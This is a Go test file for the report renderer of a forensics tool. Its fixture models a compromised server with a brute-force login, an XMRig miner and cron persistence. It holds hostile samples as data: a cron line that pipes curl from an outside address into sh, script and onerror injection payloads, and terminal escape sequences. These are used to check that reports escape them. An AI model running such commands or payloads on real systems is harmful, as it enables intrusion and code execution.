package report

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"icecore/forensics/model"
	"icecore/forensics/model/modeltest"
	"icecore/forensics/text"
)

var update = flag.Bool("update", false, "write the golden files anew")

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(p, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), string(got)); d != "" {
		t.Errorf("%s (-want +got; -update writes it anew):\n%s", name, d)
	}
}

// intrusion is the analysis of a server that was hijacked. What comes from the image
// holds what a terminal or a browser would obey, escaped as an analysis has it.
func intrusion() *model.Analysis {
	src := func(path string, line int) model.Source {
		return model.Source{
			Volume:     "p1",
			Path:       path,
			Inode:      17,
			Line:       line,
			Offset:     100,
			Length:     20,
			DiskOffset: 5000,
			SHA256:     strings.Repeat("ab", 32),
		}
	}
	const walletText = "4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL"
	orphan := src("", 0)
	orphan.State, orphan.Inode, orphan.Version = model.Orphan, 99, 7
	packed := src("/var/log/auth.log.2.gz", 12)
	packed.Member, packed.DiskOffset = "gzip", -1
	a := &model.Analysis{
		Schema: model.SchemaName,
		Tool:   model.Tool{Name: "icecore", Version: "1.0", Rules: model.Rules{YARA: "y", Sigma: "s"}},
		Image: model.Image{
			Path:        "snap shots/web'01.raw",
			Format:      "qcow2",
			VirtualSize: 8 << 30,
			Files: []model.ImageFile{
				{Path: "snap shots/web'01.raw", Size: 1 << 30, SHA256: strings.Repeat("cd", 32)},
			},
		},
		Snapshot: model.Snapshot{
			TakenAt: time.Date(2026, 1, 12, 9, 30, 0, 123456789, time.UTC),
			Source:  "ext4 journal commit",
		},
		Volumes: []model.Volume{
			{
				ID:         "p15",
				Scheme:     "gpt",
				Offset:     1 << 20,
				Size:       124 << 20,
				Filesystem: "vfat",
				Reason:     "a FAT filesystem (an EFI system partition?): not read by this version",
			},
			{
				ID:         "p1",
				Scheme:     "gpt",
				Offset:     128 << 20,
				Size:       7 << 30,
				Filesystem: "ext4",
				UUID:       "u",
				Label:      "root",
				Files:      27919,
				Journal:    &model.Journal{Replayed: true, Transactions: 20},
			},
		},
		Hosts: []model.Host{
			{
				Hostname:  "web\x1b[31m<b>01",
				OS:        "Debian GNU/Linux 12 (bookworm)",
				MachineID: "m",
				Timezone:  "Asia/Shanghai",
			},
		},
		Verdict: model.Verdict{
			State: model.Compromised,
			Since: model.When{
				Time:     time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC),
				Meaning:  model.Inferred,
				Inferred: "year, zone",
			},
			SinceFinding: "F-0001",
			Because:      []string{"F-0001"},
		},
		Findings: []model.Finding{
			{
				ID:          "F-0001",
				Rule:        "guessed_password",
				Engine:      model.EngineAnalysis,
				Title:       "Brute force: successful login as root from 203.0.113.77",
				Description: "640 failed logins, then one that was accepted.",
				Level:       model.Critical,
				Techniques:  []string{"T1110.001", "T1078"},
				Phase:       "initial-access",
				When: model.When{
					Time:     time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC),
					Meaning:  model.Inferred,
					Inferred: "year, zone",
				},
				Records: []string{"R-000001"},
				Source:  packed,
				Excerpt: "Jan 12 16:58:31 web01 sshd[22001]: Accepted password for root from 203.0.113.77 port 41022 ssh2",
			},
			{
				ID:      "F-0002",
				Rule:    "XMRig_Binary",
				Engine:  model.EngineYARA,
				Title:   "Program matches YARA rule XMRig_Binary",
				Level:   model.Critical,
				Phase:   "mining",
				When:    model.When{Time: time.Date(2026, 1, 12, 9, 0, 1, 500000000, time.UTC)},
				Records: []string{"R-000002"},
				Source:  src("/tmp/.ICE-unix/.x/kswapd0", 0),
				Excerpt: "-o, --url=URL       URL of mining server",
			},
			{
				ID:      "F-0003",
				Rule:    "XMRig_Binary",
				Engine:  model.EngineYARA,
				Title:   "Program matches YARA rule XMRig_Binary",
				Level:   model.Critical,
				Phase:   "mining",
				Records: []string{"R-000002"},
				Source:  orphan,
			},
			{
				ID:         "F-0004",
				Rule:       "act_pipe_to_shell",
				Engine:     model.EngineSigma,
				Title:      "Cron Job Downloads and Executes Code",
				Level:      model.High,
				Techniques: []string{"T1053.003"},
				Phase:      "persistence",
				When:       model.When{Time: time.Date(2026, 1, 12, 9, 2, 0, 0, time.UTC)},
				Records:    []string{"R-000003"},
				Source:     src("/etc/cron.d/\x1b[2J<script>alert(1)</script>\u202e汉字", 1),
				Excerpt:    "* * * * * root curl -s http://203.0.113.77/\x1b]0;x\x07 | sh",
			},
			{
				ID:      "F-0005",
				Rule:    "file_immutable",
				Engine:  model.EngineSigma,
				Title:   "Immutable Attribute on Sensitive File",
				Level:   model.Medium,
				Phase:   "persistence",
				Records: []string{},
				Source:  src("/root/.ssh/authorized_keys", 0),
			},
			{
				ID:     "F-0006",
				Rule:   "guessing",
				Engine: model.EngineAnalysis,
				Title:  "Password guessing from 186 addresses",
				Level:  model.Low,
				Phase:  "initial-access",
			},
		},
		Records: []model.Record{
			{ID: "R-000001", Kind: "auth.login", Source: packed, Fields: modeltest.Fields("auth.login", "user=root")},
			{
				ID:     "R-000002",
				Kind:   "miner.config",
				Source: src("/tmp/.ICE-unix/.x/config.json", 0),
				Fields: modeltest.Fields(
					"miner.config",
					"program=xmrig",
					"pool=stratum+ssl://pool.example.invalid:443",
					"host=pool.example.invalid",
					"port=443",
					"tls=yes",
					"user="+walletText,
					"wallet="+walletText,
					"coin=monero",
				),
			},
			{
				ID:     "R-000003",
				Kind:   "cron.job",
				Source: src("/etc/cron.d/x", 1),
				Fields: modeltest.Fields("cron.job", "command=curl \x1b[2J</td><script>alert(2)</script>"),
			},
		},
		Story: []model.StoryLine{
			{
				When:    model.When{Time: time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC)},
				Phase:   "initial-access",
				Text:    "Brute force: successful login as root from 203.0.113.77",
				Finding: "F-0001",
			},
			{
				When:    model.When{Time: time.Date(2026, 1, 12, 9, 0, 1, 500000000, time.UTC)},
				Phase:   "mining",
				Text:    "Program matches YARA rule XMRig_Binary: /tmp/.ICE-unix/.x/kswapd0",
				Finding: "F-0002",
			},
			{
				Phase:   "persistence",
				Text:    "Immutable Attribute on Sensitive File: /root/.ssh/authorized_keys",
				Finding: "F-0005",
			},
		},
		Coverage: model.Coverage{Files: 23908, BytesScanned: 536649303, Gaps: []model.Gap{
			{
				Subject:  model.SubjectVolume,
				Source:   model.Source{Volume: "p15"},
				What:     model.Msg("gap.volume", "volume", "p15", "content", "vfat"),
				WhatText: "volume p15 (vfat)",
				WhyText:  "a FAT filesystem (an EFI system partition?): not read by this version",
				Weight:   model.Minor,
			},
			{
				WhatText: "volume p1, /var/lib/big",
				WhyText:  "larger than the limit for one file: 30000000000 bytes, the limit is 21474836480",
			},
		}},
	}
	return a
}

// quiet is the analysis of a server on which nothing was found.
func quiet() *model.Analysis {
	a := intrusion()
	a.Verdict = model.Verdict{State: model.NoIndicators}
	a.Findings, a.Story = a.Findings[5:], nil
	a.Records = a.Records[:1]
	return a
}

// unread is the analysis of a disk of which nothing could be read.
func unread() *model.Analysis {
	return &model.Analysis{
		Image: model.Image{Path: "disk.raw", Format: "raw"}, Verdict: model.Verdict{State: model.Inconclusive},
		Volumes: []model.Volume{{ID: "p1", Filesystem: "ext4", Size: 1 << 30}},
		Coverage: model.Coverage{
			Gaps: []model.Gap{
				{WhatText: "content of all files, by YARA", WhyText: "icecore was built without cgo", Weight: model.Decisive},
				{WhatText: "volume p1, root directory", WhyText: "inode 2: corrupt: not a directory", Weight: model.Decisive},
			},
		},
	}
}

// suspect has findings that none of the questions but one is answered by.
func suspect() *model.Analysis {
	a := intrusion()
	a.Verdict = model.Verdict{State: model.Suspicious}
	a.Findings, a.Records, a.Story = a.Findings[4:5], nil, a.Story[2:]
	a.Coverage.Gaps = nil
	return a
}

func TestTerminalGolden(t *testing.T) {
	for name, a := range map[string]*model.Analysis{"compromised": intrusion(), "no-indicators": quiet(), "nothing-read": unread(), "suspicious": suspect()} {
		for _, width := range []int{80, 160} {
			var b bytes.Buffer
			if err := Terminal(&b, a, Options{Width: width}); err != nil {
				t.Fatal(err)
			}
			golden(t, fmt.Sprintf("%s-%d.txt", name, width), b.Bytes())
		}
	}
}

var ansi = regexp.MustCompile("\x1b\\[[0-9;]*m")

// Whatever the width, and with colours: no line is wider, nothing of the image
// reaches the terminal that it would obey, and the first screen holds the answers.
func TestTerminalFits(t *testing.T) {
	for name, a := range map[string]*model.Analysis{"compromised": intrusion(), "no-indicators": quiet(), "nothing-read": unread(), "suspicious": suspect()} {
		for width := 40; width <= 200; width += 3 {
			for _, color := range []bool{false, true} {
				var b bytes.Buffer
				if err := Terminal(&b, a, Options{Width: width, Color: color, All: true}); err != nil {
					t.Fatal(err)
				}
				out := b.String()
				if color {
					out = ansi.ReplaceAllString(out, "")
				}
				for _, l := range strings.Split(out, "\n") {
					if n := cellWidth(l); n > width && !strings.HasPrefix(l, "  icecore ") &&
						len(strings.Fields(l)) > 1 &&
						!strings.HasPrefix(strings.TrimLeft(l, " "), "curl ") {
						t.Errorf("%s: %d of %d columns: %s", name, n, width, l)
					}
					for _, r := range l {
						if !unicode.IsPrint(r) {
							t.Errorf("%s: %q in %q", name, r, l)
						}
					}
				}
				if first := strings.Count(out[:strings.Index(out, "\nFINDINGS\n")+1], "\n"); width >= 80 &&
					first > 24 {
					t.Errorf("%s: the first screen has %d lines at width %d", name, first, width)
				}
			}
		}
	}
	var b bytes.Buffer
	if err := Terminal(&b, intrusion(), Options{Color: true}); err != nil || !ansi.Match(b.Bytes()) {
		t.Error("no colours where they were asked for")
	}
}

// The page holds every fact, loads nothing, and lets nothing of the image become a
// tag, an attribute or a script.
func TestHTMLGolden(t *testing.T) {
	var b bytes.Buffer
	a := intrusion()
	a.Findings[1].Excerpt = "/tmp/<img src=x onerror=alert(3)>"
	if err := HTML(&b, a, Options{Made: "2026-02-01T00:00:00Z", Command: "icecore analyze -o '<case>' x"}); err != nil {
		t.Fatal(err)
	}
	golden(t, "compromised.html", b.Bytes())
	out := b.String()
	for _, bad := range []string{"<script", "<img", "onerror=alert(3)>", "javascript:", "<b>", "@import", "url(", "</td><script", "<case>"} {
		if strings.Contains(out, bad) {
			t.Errorf("the page holds %q", bad)
		}
	}
	for _, m := range regexp.MustCompile(`href="([^"]*)"`).FindAllStringSubmatch(out, -1) {
		if !strings.HasPrefix(m[1], "#") {
			t.Errorf("the page leads to %s", m[1])
		}
	}
	if m := regexp.MustCompile(`<[^>]*\b(?:src|srcset|on[a-z]+|action)=`).FindString(out); m != "" {
		t.Errorf("the page holds %q", m)
	}
	for _, r := range out {
		if r != '\n' && !unicode.IsPrint(r) {
			t.Errorf("the page holds %q", r)
		}
	}
	for _, want := range []string{"COMPROMISED", "F-0004", "pool.example.invalid:443 (TLS)", "4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL", "T1053.003", "larger than the limit for one file", "The 3 events"} {
		if !strings.Contains(out, want) {
			t.Errorf("the page does not hold %q", want)
		}
	}
	for _, a := range []*model.Analysis{quiet(), unread(), suspect()} {
		b.Reset()
		if err := HTML(&b, a, Options{}); err != nil {
			t.Error(err)
		}
	}
}

// The command that is offered for a check is one word an argument, whatever the
// image is called.
func TestCheck(t *testing.T) {
	a := viewOf(intrusion(), nil)
	for i, want := range []string{
		`icecore cat 'snap shots/web'\''01.raw' --volume p1 --inode 17 | zcat | tail -c +101 | head -c 20`,
		`icecore cat 'snap shots/web'\''01.raw' --volume p1 --inode 17 --offset 100 --length 20`,
		`icecore cat 'snap shots/web'\''01.raw' --volume p1 --inode 99@7 --offset 100 --length 20`,
	} {
		if got := a.check(a.Findings[i].Source); got != want {
			t.Errorf("got  %s\nwant %s", got, want)
		}
	}
}

func TestTable(t *testing.T) {
	rows := [][]string{
		{"a", "汉字漢字汉字漢字汉字漢字", "x\x1b[31my\nz"},
		{"bb", "e\u0301e\u0301 👩‍👩‍👧 wide", strings.Repeat("long/path/", 12)},
		{"", "", ""},
	}
	for width := 30; width < 120; width++ {
		var b bytes.Buffer
		if err := Table(&b, []string{"one", "two words here", "three"}, rows, width); err != nil {
			t.Fatal(err)
		}
		for _, l := range strings.Split(b.String(), "\n") {
			if cellWidth(l) > width {
				t.Errorf("%d of %d columns: %q", cellWidth(l), width, l)
			}
			if strings.ContainsAny(l, "\x1b\r") {
				t.Errorf("%q", l)
			}
		}
	}
}

func TestWrap(t *testing.T) {
	for _, c := range []struct {
		in    string
		width int
		want  string
	}{
		{"one two three", 8, "one two|three"},
		{"exactly8 x", 8, "exactly8|x"},
		{"/usr/share/doc/package", 12, "/usr/share/|doc/package"},
		{`aaaaaa\x1b\x1b`, 8, `aaaaaa|\x1b\x1b`},
		{`aaaaaaa\x1bb`, 8, `aaaaaaa|\x1bb`},
		{"汉字汉字", 4, "汉字|汉字"},
		{"", 10, ""},
		{"starts /tmp/x/kswapd0 now", 16, "starts /tmp/x/|kswapd0 now"},
	} {
		if got := strings.Join(wrap(c.in, c.width), "|"); got != c.want {
			t.Errorf("wrap(%q, %d) = %q, want %q", c.in, c.width, got, c.want)
		}
	}
}

func FuzzWrap(f *testing.F) {
	for _, s := range []string{"one two", `\x1b\x1b\x1b\x1b`, "汉字", "\xff\xfe", "e\u0301", "\u200d\u200d", "👩‍👩‍👧‍👦"} {
		f.Add(s, 7)
	}
	f.Fuzz(func(t *testing.T, s string, width int) {
		if width < 4 || width > 300 {
			return
		}
		s = text.Escape(s)
		lines := wrap(s, width)
		if got, want := strings.Join(strings.Fields(strings.Join(lines, "")), ""), strings.Join(strings.Fields(s), ""); got != want {
			t.Fatalf("wrap(%q, %d) loses something: %q", s, width, lines)
		}
		for _, l := range lines {
			if cellWidth(l) > width && len([]rune(l)) > 1 && len(whole(l)) != 1 {
				t.Errorf("wrap(%q, %d): %q has %d columns", s, width, l, cellWidth(l))
			}
		}
		if cellWidth(fit(s, width)) > width {
			t.Errorf("fit(%q, %d) = %q", s, width, fit(s, width))
		}
	})
}

func TestJSON(t *testing.T) {
	var b bytes.Buffer
	if err := JSON(&b, intrusion()); err != nil || !json.Valid(b.Bytes()) {
		t.Fatalf("%v %s", err, b.String())
	}
	if !strings.Contains(b.String(), `"schema": "icecore.analysis/2"`) ||
		strings.ContainsAny(b.String(), "\x1b\x07") {
		t.Error(b.String())
	}
}

// What a full disk does is reported.
func TestWriteErrors(t *testing.T) {
	if err := Terminal(full{}, intrusion(), Options{}); err == nil {
		t.Error("Terminal: no error")
	}
	if err := JSON(full{}, intrusion()); err == nil {
		t.Error("JSON: no error")
	}
	if err := HTML(full{}, intrusion(), Options{}); err == nil {
		t.Error("HTML: no error")
	}
	if err := Table(full{}, []string{"a"}, [][]string{{"b"}}, 10); err == nil {
		t.Error("Table: no error")
	}
}

type full struct{}

func (full) Write([]byte) (int, error) { return 0, io.ErrShortWrite }
